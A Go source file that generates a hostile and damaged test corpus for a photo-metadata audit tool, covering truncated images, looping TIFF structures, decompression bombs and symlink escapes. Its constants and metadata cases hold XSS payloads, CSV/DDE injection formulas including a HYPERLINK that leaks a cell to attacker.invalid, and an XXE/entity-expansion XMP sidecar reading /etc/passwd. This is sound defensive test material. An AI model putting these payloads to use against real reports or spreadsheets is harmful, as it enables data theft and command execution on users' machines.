// Package hostile writes the damaged and hostile evidence corpus of issue 6
// ("Hostile and damaged evidence") into a folder, from code, so the corpus
// is the same on every machine and needs no committed binaries: zero-byte
// files; a valid JPEG cut at every segment boundary and in the middle of
// every segment (and a PNG cut at every chunk); wrong extensions; TIFF
// directories that loop, point at themselves, or hold counts and offsets
// near 2^32; headers declaring decompression-bomb sizes; non-image files; a
// permission-denied file; a FIFO; symbolic-link loops and links leaving the
// tree; file names that are not UTF-8 or hold newlines, commas, quotes,
// control characters, a right-to-left override or a leading formula
// character; and EXIF/XMP strings holding markup, script, spreadsheet
// formulas, control characters, U+202E and 60 KB values.
//
// Every item is listed in the manifest Write returns, with what the audit
// must do with it (Expect). The photos are built with package exifwrite
// from the fixtures' base images; damaged TIFF structures use
// exifwrite.Payload{Raw: true} and byte patches at the places Build reports.
// The sources of the rules are: the issue text (every item gets a row with a
// reason, nothing crashes or hangs, nothing injected gets through), RFC 4180
// (CSV), RFC 8259 (JSON), RFC 7946 (GeoJSON) and OWASP's CSV-injection
// guidance (the formula payloads).
//
// Departures: the FIFO is made only on Unix (elsewhere it is left out of the
// manifest); the permission-denied file is only unreadable for a non-root
// user, so its Expect is ExpectDenied and a caller running as root must not
// require a failure.
package hostile

import (
	"archive/zip"
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	"math/rand/v2"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/gnomon-forensics/gnomon/internal/exifwrite"
	"github.com/gnomon-forensics/gnomon/internal/exifwrite/fixtures"
)

// What the audit must do with an item (Item.Expect).
const (
	// ExpectRead: the metadata is read; the row's verdict is not "unreadable".
	ExpectRead = "read"
	// ExpectUnreadable: the row's verdict is "unreadable" with a non-empty reason.
	ExpectUnreadable = "unreadable"
	// ExpectRow: damaged input that may be read in part or not at all; the
	// item must have its row, and a reason when it is "unreadable".
	ExpectRow = "row"
	// ExpectDenied: permission denied (mode 000): "unreadable" naming the
	// permission for a non-root user; root reads it anyway.
	ExpectDenied = "unreadable-unless-root"
)

// Item is one entry of the corpus.
type Item struct {
	// Name is the path relative to the corpus folder, slash-separated, with
	// the exact bytes of the file name (which need not be UTF-8).
	Name string
	// Kind groups the items: "empty", "truncated", "wrong-extension",
	// "tiff-damage", "bomb", "non-image", "permission", "fifo", "link",
	// "name", "hostile-metadata", "gps", "control".
	Kind string
	// Expect is one of the Expect* constants.
	Expect string
	// Why, when set, is a phrase the row's error or explanation must hold
	// (case-insensitive): the reason the issue asks for, worded by the OS
	// or the walk ("regular file", "outside", "permission denied").
	Why string
	// Payloads are the hostile strings written into the item's metadata,
	// which must reach the reports only as text.
	Payloads []string
}

// Hostile strings. Markup and script (the HTML report must show them as
// text), spreadsheet formulas (OWASP CSV injection: = + - @ and DDE), and
// control characters.
const (
	ScriptMake    = `<script>alert("make")</script>`
	ImgOnerror    = `<img src=x onerror="alert('model')">`
	SVGBreak      = `</svg><script>alert("software")</script>`
	CustomElement = `<x-gnomon-injected id="pwn">injected</x-gnomon-injected>`
	StyleBreak    = `</style><iframe src="javascript:alert(1)"></iframe>`
	Hyperlink     = `=HYPERLINK("http://attacker.invalid/?leak="&A1,"click")`
	CmdDDE        = `+cmd|' /C calc'!A0`
	AtSum         = `@SUM(1+1)*cmd|' /C calc'!A0`
	MinusFormula  = `-2+3+cmd|' /C calc'!A0`
	TabFormula    = "\t=1+1"
	CRFormula     = "\r=1+1"
	FullWidthEq   = "＝1+1"
	SpaceFormula  = "  =1+1"
	Controls      = "ctl\x00\x01\x07\x08\x1b[31mred\x1b[0m\x7f\r\n\tend"
	RTLOverride   = "photo\u202egpj.exe"
)

// InjectedNames are the element names the payloads try to create; none may
// exist in the rendered report.
var InjectedNames = []string{"script", "iframe", "x-gnomon-injected"}

// Write builds the corpus in dir (created if needed; it should be empty)
// and returns the manifest, sorted as written. It is deterministic: file
// contents, names, modes and link targets depend on nothing but the code.
// Modification times are the file system's.
func Write(dir string) ([]Item, error) {
	if err := os.MkdirAll(dir, 0o755); err != nil {
		return nil, fmt.Errorf("hostile: %w", err)
	}
	w := &writer{dir: dir}
	steps := []func(*writer) error{
		(*writer).empty, (*writer).truncated, (*writer).wrongExtensions, (*writer).tiffDamage,
		(*writer).bombs, (*writer).nonImages, (*writer).specials, (*writer).names,
		(*writer).metadata, (*writer).gps,
	}
	for _, s := range steps {
		if err := s(w); err != nil {
			return nil, fmt.Errorf("hostile: %w", err)
		}
	}
	return w.items, nil
}

type writer struct {
	dir   string
	items []Item
}

func (w *writer) file(name string, data []byte, it Item) error {
	p := filepath.Join(w.dir, filepath.FromSlash(name))
	if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
		return err
	}
	if err := os.WriteFile(p, data, 0o644); err != nil {
		return fmt.Errorf("write %q: %w", name, err)
	}
	it.Name = name
	w.items = append(w.items, it)
	return nil
}

// photo returns a small valid JPEG carrying ph's EXIF and the optional XMP.
func photo(ph exifwrite.Photo, xmp []byte) ([]byte, error) {
	payload, err := ph.Payload(binary.BigEndian).Bytes()
	if err != nil {
		return nil, err
	}
	return exifwrite.JPEG(payload, fixtures.BaseJPEG, xmp)
}

// plain is an ordinary camera record, with a date and a place, used where
// the damage is elsewhere (names, extensions, links).
func plain() exifwrite.Photo {
	return exifwrite.Photo{Make: "Acme", Model: "Hostile", DateTimeOriginal: "2026:06:20 15:10:00",
		OffsetTimeOriginal: "+02:00", GPS: &exifwrite.GPS{LatDeg: 46.2, LonDeg: 6.15}}
}

func (w *writer) empty() error {
	for _, n := range []string{"empty/empty.jpg", "empty/empty.heic", "empty/empty.png", "empty/no-extension", "empty/empty.xmp"} {
		if err := w.file(n, nil, Item{Kind: "empty", Expect: ExpectUnreadable}); err != nil {
			return err
		}
	}
	return nil
}

// jpegSegments returns the offset of every marker of a JPEG up to and
// including SOS (ISO/IEC 10918-1 B.1.1: a marker FFxx, then a 2-byte length
// for all but SOI/EOI/RSTn), the offset of EOI, and the segment lengths.
func jpegSegments(b []byte) (offs []int, lens []int, err error) {
	if len(b) < 4 || b[0] != 0xFF || b[1] != 0xD8 {
		return nil, nil, errors.New("not a JPEG")
	}
	offs, lens = []int{0}, []int{2}
	i := 2
	for i+4 <= len(b) {
		if b[i] != 0xFF {
			return nil, nil, fmt.Errorf("no marker at %d", i)
		}
		n := int(binary.BigEndian.Uint16(b[i+2:]))
		offs, lens = append(offs, i), append(lens, 2+n)
		if b[i+1] == 0xDA { // SOS: entropy-coded data follows up to EOI
			eoi := bytes.LastIndex(b, []byte{0xFF, 0xD9})
			if eoi < i {
				return nil, nil, errors.New("no EOI")
			}
			lens[len(lens)-1] = eoi - i
			offs, lens = append(offs, eoi), append(lens, 2)
			return offs, lens, nil
		}
		i += 2 + n
	}
	return nil, nil, errors.New("no SOS")
}

// truncated cuts a full JPEG (fixtures.Full with its thumbnail and XMP) at
// every segment boundary and in the middle of every segment, and a PNG at
// every chunk boundary and mid-chunk.
func (w *writer) truncated() error {
	full := fixtures.Full()
	lat := 46.2
	xmp := exifwrite.XMP(exifwrite.XMPFields{DateTimeOriginal: "2026-06-20T15:10:00+02:00", Make: "Acme", LatDeg: &lat, LonDeg: &lat})
	b, err := photo(full, xmp)
	if err != nil {
		return err
	}
	if err := w.file("truncated/whole.jpg", b, Item{Kind: "control", Expect: ExpectRead}); err != nil {
		return err
	}
	offs, lens, err := jpegSegments(b)
	if err != nil {
		return err
	}
	seen := map[int]bool{}
	for k, off := range offs {
		m := b[off+1]
		cuts := []struct {
			at   int
			what string
		}{{off, "boundary"}, {off + 1, "marker"}, {off + 3, "length"}, {off + lens[k]/2, "mid"}}
		for _, c := range cuts {
			if c.at <= 0 || c.at >= len(b) || seen[c.at] || (c.what == "length" && lens[k] <= 2) {
				continue
			}
			seen[c.at] = true
			name := fmt.Sprintf("truncated/jpeg-%05d-%s-FF%02X.jpg", c.at, c.what, m)
			if err := w.file(name, b[:c.at], Item{Kind: "truncated", Expect: ExpectRow}); err != nil {
				return err
			}
		}
	}
	// PNG: 8-byte signature, then chunks of length, type, data, CRC (PNG spec 5.3).
	payload, err := full.Payload(binary.LittleEndian).Bytes()
	if err != nil {
		return err
	}
	p, err := exifwrite.PNG(payload, fixtures.BasePNG)
	if err != nil {
		return err
	}
	for i := 8; i+12 <= len(p); {
		n := int(binary.BigEndian.Uint32(p[i:]))
		typ := string(p[i+4 : i+8])
		for _, c := range []struct {
			at   int
			what string
		}{{i, "boundary"}, {i + 8 + n/2, "mid"}} {
			name := fmt.Sprintf("truncated/png-%05d-%s-%s.png", c.at, c.what, typ)
			if err := w.file(name, p[:c.at], Item{Kind: "truncated", Expect: ExpectRow}); err != nil {
				return err
			}
		}
		i += 12 + n
	}
	return nil
}

func (w *writer) wrongExtensions() error {
	payload, err := plain().Payload(binary.LittleEndian).Bytes()
	if err != nil {
		return err
	}
	png, err := exifwrite.PNG(payload, fixtures.BasePNG)
	if err != nil {
		return err
	}
	jpg, err := photo(plain(), nil)
	if err != nil {
		return err
	}
	for _, f := range []struct {
		name   string
		data   []byte
		expect string
	}{
		{"ext/png-named.jpg", png, ExpectRead},
		{"ext/jpeg-named.heic", jpg, ExpectRead},
		{"ext/jpeg-named.PNG", jpg, ExpectRead},
		{"ext/text-named.jpg", []byte("This is not a photo.\n"), ExpectUnreadable},
		{"ext/html-named.jpeg", []byte("<!DOCTYPE html><script>alert(1)</script>\n"), ExpectUnreadable},
	} {
		if err := w.file(f.name, f.data, Item{Kind: "wrong-extension", Expect: f.expect}); err != nil {
			return err
		}
	}
	return nil
}

// tiffDamage writes JPEGs whose Exif payload is structurally damaged.
func (w *writer) tiffDamage() error {
	base := exifwrite.Photo{Make: "Acme", Model: "Damaged", DateTimeOriginal: "2026:06:20 15:10:00",
		GPS: &exifwrite.GPS{LatDeg: 46.2, LonDeg: 6.15}, Thumbnail: fixtures.ThumbJPEG}
	be := binary.BigEndian
	type damage struct {
		name  string
		build func() ([]byte, error)
	}
	patched := func(p exifwrite.Payload, patch func(b []byte, l exifwrite.Layout)) func() ([]byte, error) {
		return func() ([]byte, error) {
			b, l, err := p.Build()
			if err != nil {
				return nil, err
			}
			patch(b, l)
			return b, nil
		}
	}
	good := base.Payload(be)
	raw := func(ifd0 ...exifwrite.Entry) exifwrite.Payload {
		p := base.Payload(be)
		p.Raw = true
		p.IFD0 = append(p.IFD0, ifd0...)
		return p
	}
	withIFD1 := func(ifd1 ...exifwrite.Entry) exifwrite.Payload {
		p := base.Payload(be)
		p.Raw, p.Thumbnail, p.IFD1 = true, nil, ifd1
		return p
	}
	long := func(tag uint16, typ uint16, count uint32, v uint32) exifwrite.Entry {
		e := exifwrite.Long(tag, v)
		e.Type, e.Count = typ, count
		return e
	}
	ds := []damage{
		{"ifd0-next-self", patched(good, func(b []byte, l exifwrite.Layout) { be.PutUint32(b[l.IFD0Next:], l.IFD0) })},
		{"ifd1-next-ifd0", patched(good, func(b []byte, l exifwrite.Layout) { be.PutUint32(b[l.IFD1Next:], l.IFD0) })},
		{"ifd1-next-ifd1", patched(good, func(b []byte, l exifwrite.Layout) { be.PutUint32(b[l.IFD1Next:], l.IFD1) })},
		{"exif-pointer-ifd0", func() ([]byte, error) {
			p := raw(exifwrite.Long(exifwrite.TagExifIFDPointer, 8))
			return p.Bytes()
		}},
		{"gps-pointer-near-2^32", func() ([]byte, error) {
			return raw(exifwrite.Long(exifwrite.TagGPSIFDPointer, 0xFFFFFFF0)).Bytes()
		}},
		{"ifd0-offset-near-2^32", patched(good, func(b []byte, _ exifwrite.Layout) { be.PutUint32(b[4:], 0xFFFFFFF8) })},
		{"ifd1-offset-max", patched(good, func(b []byte, l exifwrite.Layout) { be.PutUint32(b[l.IFD0Next:], 0xFFFFFFFF) })},
		{"ifd0-count-65535", patched(good, func(b []byte, l exifwrite.Layout) { be.PutUint16(b[l.IFD0:], 0xFFFF) })},
		{"exif-ifd-count-65535", patched(good, func(b []byte, l exifwrite.Layout) { be.PutUint16(b[l.Exif:], 0xFFFF) })},
		{"ascii-count-2^32-1", func() ([]byte, error) {
			e := exifwrite.ASCII(exifwrite.TagSoftware, "abc")
			e.Count = 0xFFFFFFFF
			return raw(e).Bytes()
		}},
		{"rational-count-overflows-32bit", func() ([]byte, error) {
			// 8 × 0x20000001 = 2^32 + 8: a 32-bit size computation wraps to 8.
			e := exifwrite.Rat(exifwrite.TagXResolution, exifwrite.Rational{Num: 72, Den: 1})
			e.Count = 0x20000001
			return raw(e).Bytes()
		}},
		{"value-offset-near-2^32", func() ([]byte, error) {
			return raw(long(exifwrite.TagSoftware, exifwrite.TypeASCII, 100, 0xFFFFFFFC)).Bytes()
		}},
		{"unknown-type", func() ([]byte, error) {
			return raw(long(exifwrite.TagSoftware, 0xFFFF, 0xFFFFFFFF, 8)).Bytes()
		}},
		{"thumbnail-offset-near-2^32", func() ([]byte, error) {
			return withIFD1(exifwrite.Long(exifwrite.TagJPEGInterchangeFormat, 0xFFFFFFF0),
				exifwrite.Long(exifwrite.TagJPEGInterchangeLength, 0xFFFFFFF0)).Bytes()
		}},
		{"thumbnail-self", func() ([]byte, error) {
			return withIFD1(exifwrite.Long(exifwrite.TagJPEGInterchangeFormat, 0),
				exifwrite.Long(exifwrite.TagJPEGInterchangeLength, 0xFFFF)).Bytes()
		}},
		{"bad-byte-order", patched(good, func(b []byte, _ exifwrite.Layout) { b[0], b[1] = 'X', 'X' })},
		{"bad-magic", patched(good, func(b []byte, _ exifwrite.Layout) { be.PutUint16(b[2:], 43) })},
	}
	for _, d := range ds {
		payload, err := d.build()
		if err != nil {
			return fmt.Errorf("%s: %w", d.name, err)
		}
		b, err := exifwrite.JPEG(payload, fixtures.BaseJPEG, nil)
		if err != nil {
			return fmt.Errorf("%s: %w", d.name, err)
		}
		if err := w.file("tiff/"+d.name+".jpg", b, Item{Kind: "tiff-damage", Expect: ExpectRow}); err != nil {
			return err
		}
	}
	// A bare TIFF file whose IFD0 points at itself through its next link.
	t, err := exifwrite.TIFF(exifwrite.Payload{IFD0: []exifwrite.Entry{exifwrite.ASCII(exifwrite.TagMake, "Acme")}}, fixtures.Gradient(16, 16))
	if err != nil {
		return err
	}
	if len(t) > 8 {
		t = append([]byte(nil), t...)
		off := be.Uint32(t[4:])
		if int(off)+2 <= len(t) {
			n := int(be.Uint16(t[off:]))
			if next := int(off) + 2 + 12*n; next+4 <= len(t) {
				be.PutUint32(t[next:], off)
			}
		}
	}
	return w.file("tiff/loop.tif", t, Item{Kind: "tiff-damage", Expect: ExpectRow})
}

// bombs declares huge image sizes in headers whose metadata is readable, so
// that the thumbnail writer is reached and must refuse before decoding
// (report.MaxDecodePixels).
func (w *writer) bombs() error {
	payload, err := plain().Payload(binary.BigEndian).Bytes()
	if err != nil {
		return err
	}
	// PNG: IHDR is the first chunk; width and height are its first 8 bytes.
	p := append([]byte(nil), fixtures.BasePNG...)
	ihdr := append([]byte(nil), p[16:16+13]...)
	binary.BigEndian.PutUint32(ihdr, 100000)
	binary.BigEndian.PutUint32(ihdr[4:], 100000)
	p = append(append(append([]byte(nil), p[:8]...), exifwrite.PNGChunk("IHDR", ihdr)...), p[8+25:]...)
	pb, err := exifwrite.PNG(payload, p)
	if err != nil {
		return err
	}
	// JPEG: SOFn holds precision (1 byte), height and width (2 bytes each).
	sof := func(b []byte, h, wd uint16) ([]byte, error) {
		b = append([]byte(nil), b...)
		offs, _, err := jpegSegments(b)
		if err != nil {
			return nil, err
		}
		for _, o := range offs {
			if m := b[o+1]; m >= 0xC0 && m <= 0xCF && m != 0xC4 && m != 0xC8 && m != 0xCC {
				binary.BigEndian.PutUint16(b[o+5:], h)
				binary.BigEndian.PutUint16(b[o+7:], wd)
				return b, nil
			}
		}
		return nil, errors.New("no SOF")
	}
	jb, err := sof(fixtures.BaseJPEG, 65500, 65500)
	if err != nil {
		return err
	}
	jpg, err := exifwrite.JPEG(payload, jb, nil)
	if err != nil {
		return err
	}
	// An embedded preview declaring 65500 × 65500.
	thumb, err := sof(fixtures.ThumbJPEG, 65500, 65500)
	if err != nil {
		return err
	}
	ph := plain()
	ph.Thumbnail = thumb
	tj, err := photo(ph, nil)
	if err != nil {
		return err
	}
	for _, f := range []struct {
		name string
		data []byte
	}{{"bomb/png-100000x100000.png", pb}, {"bomb/jpeg-65500x65500.jpg", jpg}, {"bomb/preview-65500x65500.jpg", tj}} {
		if err := w.file(f.name, f.data, Item{Kind: "bomb", Expect: ExpectRead}); err != nil {
			return err
		}
	}
	return nil
}

func (w *writer) nonImages() error {
	var zb bytes.Buffer
	zw := zip.NewWriter(&zb)
	fh := &zip.FileHeader{Name: "inside.jpg", Method: zip.Store, Modified: time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)}
	f, err := zw.CreateHeader(fh)
	if err != nil {
		return err
	}
	if _, err := f.Write(fixtures.BaseJPEG); err != nil {
		return err
	}
	if err := zw.Close(); err != nil {
		return err
	}
	rnd := make([]byte, 4096)
	r := rand.New(rand.NewPCG(6, 6)) // fixed seed: deterministic
	for i := range rnd {
		rnd[i] = byte(r.Uint32())
	}
	xxe := []byte(`<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY xxe SYSTEM "file:///etc/passwd">]>` +
		`<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:tiff="http://ns.adobe.com/tiff/1.0/" tiff:Make="&c;&xxe;"/></rdf:RDF></x:xmpmeta>`)
	lonely, err := photo(plain(), nil)
	if err != nil {
		return err
	}
	for _, f := range []struct {
		name   string
		data   []byte
		expect string
	}{
		{"other/notes.txt", []byte("Examiner's notes.\n=HYPERLINK(\"x\")\n"), ExpectUnreadable},
		{"other/archive.zip", zb.Bytes(), ExpectUnreadable},
		{"other/random.bin", rnd, ExpectUnreadable},
		{"other/random.jpg", rnd[:1024], ExpectUnreadable},
		{"other/soi-only.jpg", []byte{0xFF, 0xD8, 0xFF}, ExpectRow},
		{"other/tiff-header-only.tif", []byte("II*\x00"), ExpectRow},
		{"other/laughs.jpg", lonely, ExpectRead},
		{"other/laughs.xmp", xxe, ExpectRow}, // an XML-bomb sidecar of laughs.jpg
	} {
		if err := w.file(f.name, f.data, Item{Kind: "non-image", Expect: f.expect}); err != nil {
			return err
		}
	}
	return nil
}

// specials writes the permission-denied file, the FIFO and the links.
func (w *writer) specials() error {
	jpg, err := photo(plain(), nil)
	if err != nil {
		return err
	}
	if err := w.file("special/target.jpg", jpg, Item{Kind: "control", Expect: ExpectRead}); err != nil {
		return err
	}
	if err := w.file("special/denied.jpg", jpg, Item{Kind: "permission", Expect: ExpectDenied, Why: "permission denied"}); err != nil {
		return err
	}
	if err := os.Chmod(filepath.Join(w.dir, "special", "denied.jpg"), 0); err != nil {
		return err
	}
	if ok, err := mkfifo(filepath.Join(w.dir, "special", "pipe.jpg")); err != nil {
		return err
	} else if ok {
		w.items = append(w.items, Item{Name: "special/pipe.jpg", Kind: "fifo", Expect: ExpectUnreadable, Why: "regular file"})
	}
	if err := os.MkdirAll(filepath.Join(w.dir, "special", "loopdir"), 0o755); err != nil {
		return err
	}
	links := []struct {
		name, target, expect, why string
	}{
		{"special/alias.jpg", "target.jpg", ExpectRead, ""},
		{"special/self.jpg", "self.jpg", ExpectUnreadable, "link"},
		{"special/ping.jpg", "pong.jpg", ExpectUnreadable, "link"},
		{"special/pong.jpg", "ping.jpg", ExpectUnreadable, "link"},
		{"special/loopdir/up", "..", ExpectUnreadable, "folder"},
		{"special/loopdir/root", "/", ExpectUnreadable, "outside"},
		{"special/passwd.jpg", "/etc/passwd", ExpectUnreadable, "outside"},
		{"special/escape.jpg", "../../../../../../../../../../etc/hostname", ExpectUnreadable, "outside"},
		{"special/dangling.jpg", "nowhere.jpg", ExpectUnreadable, "link"},
	}
	for _, l := range links {
		if err := os.Symlink(l.target, filepath.Join(w.dir, filepath.FromSlash(l.name))); err != nil {
			return err
		}
		w.items = append(w.items, Item{Name: l.name, Kind: "link", Expect: l.expect, Why: l.why})
	}
	return nil
}

// names writes valid photos under file names that break naive consumers.
func (w *writer) names() error {
	jpg, err := photo(plain(), nil)
	if err != nil {
		return err
	}
	names := []string{
		"bad-utf8-\xff\xfe.jpg",
		"latin1-caf\xe9.jpg",
		"overlong-\xc0\xaf.jpg",
		"surrogate-\xed\xa0\x80.jpg",
		"new\nline.jpg",
		"carriage\rreturn.jpg",
		"crlf\r\nrow.jpg",
		"comma,separated,name.jpg",
		`"quoted" name.jpg`,
		`semi;colon'apos.jpg`,
		"ctl-\x01\x07\x1b[31m.jpg",
		"tab\tinside.jpg",
		"\ttab-first.jpg",
		"photo\u202egpj.jpg",
		"=HYPERLINK(\"http:\\\\attacker.invalid\",\"x\").jpg",
		"=1+2.jpg",
		"+cmd|' calc'!A0.jpg",
		"-2+3.jpg",
		"@SUM(1+1).jpg",
		"＝fullwidth.jpg",
		" =space-first.jpg",
		"<script>alert(1)<.jpg",
		`<img src=x onerror=alert(1)>.jpg`,
		"&amp;entity.jpg",
		"ünïcödé 写真.jpg",
		"-leading-dash.jpg",
		strings.Repeat("long", 60) + ".jpg",
	}
	for _, n := range names {
		if err := w.file("names/"+n, jpg, Item{Kind: "name", Expect: ExpectRead, Payloads: []string{n}}); err != nil {
			return err
		}
	}
	return nil
}

// metadata writes photos whose EXIF and XMP strings are hostile.
func (w *writer) metadata() error {
	long := strings.Repeat("<b>60KB</b>", 60*1024/11)
	type mcase struct {
		name string
		ph   exifwrite.Photo
		xmp  *exifwrite.XMPFields
		png  bool
	}
	base := func(mk, model, sw, uid, lens, serial string) exifwrite.Photo {
		p := plain()
		p.Make, p.Model, p.Software, p.ImageUniqueID, p.LensModel, p.BodySerial = mk, model, sw, uid, lens, serial
		return p
	}
	cases := []mcase{
		{name: "markup.jpg", ph: base(ScriptMake, ImgOnerror, SVGBreak, CustomElement, StyleBreak, `"><script>alert(1)</script>`)},
		{name: "formulas.jpg", ph: base(Hyperlink, CmdDDE, AtSum, MinusFormula, TabFormula, CRFormula)},
		{name: "formulas2.jpg", ph: base(FullWidthEq, SpaceFormula, "-2+3", "=1+1", "@A1", "+1")},
		{name: "controls.jpg", ph: base(Controls, RTLOverride, "\u202e\u2066\u2069\u200f", "\xff\xfe\x00bin", "\x1b]0;title\x07", "a\x00b")},
		{name: "long-60KB.jpg", ph: base("Acme", "Long", long, "", "", "")},
		{name: "long-200KB.png", ph: base(strings.Repeat("M", 200*1024), ScriptMake, "", "", "", ""), png: true},
		{name: "xmp-embedded.jpg", ph: plain(), xmp: &exifwrite.XMPFields{Make: ScriptMake, Model: ImgOnerror + Hyperlink, DateTimeOriginal: "<script>"}},
		{name: "xmp-only.jpg", ph: exifwrite.Photo{}, xmp: &exifwrite.XMPFields{Make: SVGBreak, Model: CustomElement, DateTimeOriginal: "2026-06-20T15:10:00+02:00"}},
	}
	for _, c := range cases {
		var xmp []byte
		if c.xmp != nil {
			xmp = exifwrite.XMP(*c.xmp)
		}
		var b []byte
		var err error
		if c.png {
			var payload []byte
			payload, err = c.ph.Payload(binary.BigEndian).Bytes()
			if err == nil {
				b, err = exifwrite.PNG(payload, fixtures.BasePNG)
			}
		} else if c.ph.Make == "" && c.ph.DateTimeOriginal == "" {
			b, err = exifwrite.InsertSegments(fixtures.BaseJPEG, exifwrite.XMPAPP1(xmp))
		} else {
			b, err = photo(c.ph, xmp)
		}
		if err != nil {
			return fmt.Errorf("%s: %w", c.name, err)
		}
		pl := []string{c.ph.Make, c.ph.Model, c.ph.Software, c.ph.ImageUniqueID, c.ph.LensModel, c.ph.BodySerial}
		if c.xmp != nil {
			pl = append(pl, c.xmp.Make, c.xmp.Model)
		}
		if err := w.file("meta/"+c.name, b, Item{Kind: "hostile-metadata", Expect: ExpectRead, Payloads: pl}); err != nil {
			return err
		}
	}
	// A sidecar carrying markup for a photo with no XMP of its own.
	sc := exifwrite.XMP(exifwrite.XMPFields{Make: CustomElement, Model: ScriptMake})
	if err := w.file("meta/sidecar-target.jpg", mustPhoto(plain()), Item{Kind: "hostile-metadata", Expect: ExpectRead}); err != nil {
		return err
	}
	return w.file("meta/sidecar-target.xmp", sc, Item{Kind: "hostile-metadata", Expect: ExpectRow, Payloads: []string{CustomElement, ScriptMake}})
}

func mustPhoto(ph exifwrite.Photo) []byte {
	b, err := photo(ph, nil)
	if err != nil {
		panic(err) // plain() is a valid record; a failure is a bug in this package
	}
	return b
}

// gps writes positions that cannot be drawn: out of range, and a zero
// denominator (RFC 7946 section 3.1.1 wants longitude, latitude in range).
func (w *writer) gps() error {
	out := plain()
	out.GPS = &exifwrite.GPS{LatDeg: 123.4, LonDeg: 200.5}
	zero := plain()
	zero.GPS = nil
	p := zero.Payload(binary.BigEndian)
	p.Raw = true
	p.GPS = []exifwrite.Entry{
		exifwrite.ASCII(exifwrite.TagGPSLatitudeRef, "N"),
		exifwrite.Rat(exifwrite.TagGPSLatitude, exifwrite.Rational{Num: 46, Den: 0}, exifwrite.Rational{Num: 0, Den: 0}, exifwrite.Rational{Num: 0, Den: 0}),
		exifwrite.ASCII(exifwrite.TagGPSLongitudeRef, "E"),
		exifwrite.Rat(exifwrite.TagGPSLongitude, exifwrite.Rational{Num: 0xFFFFFFFF, Den: 1}, exifwrite.Rational{Num: 0, Den: 1}, exifwrite.Rational{Num: 0, Den: 1}),
	}
	zp, err := p.Bytes()
	if err != nil {
		return err
	}
	zb, err := exifwrite.JPEG(zp, fixtures.BaseJPEG, nil)
	if err != nil {
		return err
	}
	ob, err := photo(out, nil)
	if err != nil {
		return err
	}
	if err := w.file("gps/out-of-range.jpg", ob, Item{Kind: "gps", Expect: ExpectRead}); err != nil {
		return err
	}
	return w.file("gps/zero-denominator.jpg", zb, Item{Kind: "gps", Expect: ExpectRead})
}
